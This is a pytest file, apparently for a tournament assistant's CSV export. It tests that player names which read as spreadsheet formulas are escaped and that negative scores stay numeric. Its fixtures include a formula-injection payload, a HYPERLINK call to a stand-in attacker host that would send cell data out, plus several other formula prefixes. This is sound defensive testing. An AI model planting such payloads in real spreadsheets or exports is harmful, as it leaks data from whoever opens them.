"""What the director prints and exports (issue 42, items 9-11): CSV that a spreadsheet cannot run, the
penalties column, and names in any script in the PDFs."""

import csv
import json

import pytest
from tournament_kit import win

from assistant.cli import main
from assistant.tournament.reports import submit
from assistant.tournament.store import Store


def run_json(capsys, argv):
    code = main(argv + ["--json"])
    out = capsys.readouterr().out
    return code, json.loads(out.strip().splitlines()[-1])


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)", "@SUM(1+1)", "-1+1", "=1+1", "-Ann"]


def test_names_that_read_as_formulas_are_text_in_every_csv_and_negative_points_stay_numbers(capsys, tmp_path):
    path = tmp_path / "players.csv"
    with open(path, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["name"]] + [[n] for n in FORMULAS + ["Bea", "Cy"]])
    db = str(tmp_path / "f.db")
    code, made = run_json(capsys, ["tournament", "new", "X", "--players", str(path), "--tables", "2", "--rounds", "1",
                                   "--games-per-round", "1", "--db", db, "--cards", str(tmp_path / "c.pdf")])
    assert code == 0, made
    store = Store.open(db)
    for t in (1, 2):  # B threw the winning tile to three exposures: -25, a negative number in every CSV
        assert submit(store, made["director_token"], win(t, 1, exposures=3))["status"] == "counted"
    store.close()
    assert main(["tournament", "standings", "--csv", "--db", db]) == 0
    printed = list(csv.reader(capsys.readouterr().out.splitlines()))
    assert run_json(capsys, ["tournament", "export", "--db", db, "--out", str(tmp_path / "ex")])[0] == 0
    standings_csv = list(csv.reader(open(tmp_path / "ex" / "standings.csv", encoding="utf-8")))
    results_csv = list(csv.reader(open(tmp_path / "ex" / "results.csv", encoding="utf-8")))
    for rows, name_col, points_col in ((printed, 1, 2), (standings_csv, 1, 2), (results_csv, 4, 5)):
        names = {r[name_col] for r in rows[1:]}
        assert {"'" + n for n in FORMULAS} | {"Bea", "Cy"} == names
        assert not any(c.startswith(("=", "+", "-", "@")) for r in rows[1:] for c in r if not c.lstrip("-").isdigit())
        assert {r[points_col] for r in rows[1:]} >= {"-25"}  # a number, not '-25


@pytest.mark.parametrize(("cell", "written"), [("=1+1", "'=1+1"), ("\t=1", "'\t=1"), ("\r+1", "'\r+1"),
                                                ("Ann", "Ann"), (-25, -25), ("", "")])
def test_csv_cell(cell, written):
    from assistant.tournament.sheets import csv_cell

    assert csv_cell(cell) == written
